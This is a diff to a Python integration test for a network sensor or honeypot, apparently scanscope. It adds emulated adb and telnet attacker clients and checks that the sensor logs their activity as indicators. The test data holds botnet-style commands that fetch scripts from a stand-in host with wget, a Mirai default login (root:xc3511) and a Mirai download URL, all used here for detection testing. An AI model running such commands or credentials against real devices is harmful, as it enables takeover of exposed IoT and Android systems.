@@ -16,6 +16,8 @@ clients' own calls, test/data/jsonrpc-client.cjs and the lines below):
 - curl over IPv6: eth_accounts and eth_blockNumber on one keep-alive connection.
 - nc: Claymore's miner_getstat1 and a miner_file command on 3333.
 - curl: Mirai's Realtek UPnP exploit on 52869, carrying a download URL.
+- adb: connect to 5555, a shell command that downloads a script, a push of a small file.
+- telnet: a login as root:xc3511 (Mirai's list), then a download at the shell prompt.
 
 The report's steps per port, /metrics, the source store and the event log's indicators are
 checked against those counts; what each client received is checked as the client saw it.
@@ -23,6 +25,7 @@ checked against those counts; what each client received is checked as the client
 usage: test_emulation.py SCANSCOPE SOURCE_DIR
 """
 
+import hashlib
 import json
 import os
 import shutil
@@ -48,7 +51,11 @@ NODE_DIR = os.environ.get("SCANSCOPE_NODE_DIR", "/opt/ssnode")
 VICTIM = "0x407d73d8a49eeb85d32cf465507dd71d507100c1"
 THIEF = "0x" + "cd" * 20
 DOWNLOAD = "http://192.0.2.66/bins/mirai.mips"
-TOOLS = ["curl", "nc", "node", "tcpdump"]
+ADB_SHELL = "cd /data/local/tmp; wget http://192.0.2.66/x.sh"
+PUSHED = b"#!/bin/sh\necho mined\n"
+TELNET_LOGIN = ("root", "xc3511")
+TELNET_COMMAND = "cd /tmp; wget http://192.0.2.66/t.sh"
+TOOLS = ["curl", "nc", "node", "adb", "telnet"]
 
 
 def setup():
@@ -104,9 +111,37 @@ def stop_sensor(proc, paths):
         return json.load(f)
 
 
-def clients(source_dir):
+def adb_client(tmp):
+    """adb connect, a shell command and a push; what adb printed for each."""
+    env = dict(os.environ, HOME=tmp)
+    target = "198.19.0.12:5555"
+    pushed = os.path.join(tmp, "x.sh")
+    with open(pushed, "wb") as f:
+        f.write(PUSHED)
+    out = []
+    for args in (["connect", target], ["-s", target, "shell", ADB_SHELL],
+                 ["-s", target, "push", pushed, "/data/local/tmp/"]):
+        r = in_ns(SCAN, "timeout", "20", "adb", *args, check=False, capture_output=True,
+                  text=True, env=env, timeout=30)
+        out.append((r.returncode, (r.stdout + r.stderr).strip()))
+    in_ns(SCAN, "timeout", "10", "adb", "kill-server", check=False, capture_output=True, env=env,
+          timeout=20)
+    return out
+
+
+def telnet_client():
+    """A login and one command, typed at the prompts' pace; what telnet printed."""
+    user, password = TELNET_LOGIN
+    script = (f"sleep 1; echo {user}; sleep 0.5; echo {password}; sleep 0.5; "
+              f"echo '{TELNET_COMMAND}'; sleep 0.5; echo exit; sleep 0.5")
+    r = in_ns(SCAN, "sh", "-c", f"({script}) | timeout 15 telnet 198.19.0.14 23", check=False,
+              capture_output=True, text=True, timeout=30)
+    return r.stdout + r.stderr
+
+
+def clients(source_dir, tmp):
     """Each client once; what each of them received."""
-    got = {}
+    got = {"adb": adb_client(tmp), "telnet": telnet_client()}
     client = os.path.join(source_dir, "test", "data", "jsonrpc-client.cjs")
     env = dict(os.environ, NODE_PATH=os.path.join(NODE_DIR, "node_modules"))
     r = in_ns(SCAN, "timeout", "60", "node", client, "http://198.19.0.10:8545", check=False,
@@ -155,6 +190,13 @@ def check_clients(got, failures):
     code, out = got["upnp"]
     if code != 0 or out != "200":
         failures.append(f"the UPnP exploit got {out!r} (curl exit {code}), not 200")
+    (c_code, c_out), (s_code, s_out), (p_code, p_out) = got["adb"]
+    if c_code != 0 or "connected to" not in c_out or s_code != 0 or p_code != 0 or \
+            "1 file pushed" not in p_out:
+        failures.append(f"adb: {got['adb']}")
+    out = got["telnet"]
+    if "login: " not in out or "Password: " not in out or "BusyBox" not in out:
+        failures.append(f"telnet saw {out[-600:]!r}")
 
 
 # The steps each client's calls reach, by port: (segments, sources). jsonrpc-client.cjs makes
@@ -168,6 +210,12 @@ EXPECTED_STEPS = {
     (3333, "miner_status"): (1, 1),
     (3333, "miner_control"): (1, 1),
     (52869, "http_request"): (1, 1),
+    (5555, "adb_connect"): (1, 1),
+    (5555, "adb_shell"): (1, 1),
+    (5555, "adb_push"): (1, 1),
+    (23, "telnet_login"): (1, 1),
+    (23, "telnet_shell"): (1, 1),
+    (23, "telnet_download"): (1, 1),
 }
 
 
@@ -179,10 +227,11 @@ def check_report(report, failures):
     else:
         print(f"steps: {sorted(steps.items())}")
     counters = report["conversation"]["counters"]
-    # Every connection that completed its handshake went on talking; the requests are the
-    # clients' calls: ethers 13 (five, a batch, three, one, three), curl 2, nc 2, the exploit 1.
+    # Every connection that completed its handshake went on talking; the requests answered
+    # are at least the clients' calls: ethers 13 (five, a batch, three, one, three), curl 2,
+    # nc 2, the exploit 1, telnet 3 lines, adb CNXN and two OPENs (its writes come on top).
     if counters["emulation_conversations"] != counters["responder_handshakes"] or \
-            counters["emulation_requests"] != 13 + 2 + 2 + 1:
+            counters["emulation_requests"] < 13 + 2 + 2 + 1 + 3 + 3:
         failures.append(f"emulation counters: {counters}")
     for bad in ("emulation_malformed_http", "emulation_malformed_json", "emulation_too_large",
                 "emulation_table_full", "emulation_source_cap", "responder_unknown_acks"):
@@ -216,7 +265,15 @@ def check_events(path, failures):
             if event["event_type"] == "indicator":
                 indicators.append((event["src_ip"], event["dest_port"],
                                    event["indicator"]["kind"], event["indicator"]["value"]))
-    want = {(SCANNER, 8545, "eth_recipient", THIEF), (SCANNER, 8545, "eth_sender", VICTIM),
+    digest = hashlib.sha256(PUSHED).hexdigest()
+    want = {(SCANNER, 5555, "shell_command", ADB_SHELL),
+            (SCANNER, 5555, "url", "http://192.0.2.66/x.sh"),
+            (SCANNER, 5555, "file_sha256", digest),
+            (SCANNER, 5555, "file_name", f"/data/local/tmp/x.sh {len(PUSHED)} bytes"),
+            (SCANNER, 23, "credential", ":".join(TELNET_LOGIN)),
+            (SCANNER, 23, "shell_command", TELNET_COMMAND),
+            (SCANNER, 23, "url", "http://192.0.2.66/t.sh")}
+    want |= {(SCANNER, 8545, "eth_recipient", THIEF), (SCANNER, 8545, "eth_sender", VICTIM),
             (SCANNER, 8545, "eth_etherbase", THIEF), (SCANNER, 3333, "miner_command",
                                                        "miner_file reboot.bat"),
             (SCANNER, 52869, "url", DOWNLOAD)}
@@ -255,7 +312,7 @@ def main():
             if not setup():
                 return skip_status()
             proc, paths = start_sensor(scanscope, source_dir, tmp)
-            got = clients(source_dir)
+            got = clients(source_dir, tmp)
             r = in_ns(SENSOR, "curl", "-s", "-m", "5", f"http://127.0.0.1:{SENSOR_HTTP}/metrics",
                       check=False, capture_output=True, text=True, timeout=20)
             report = stop_sensor(proc, paths)
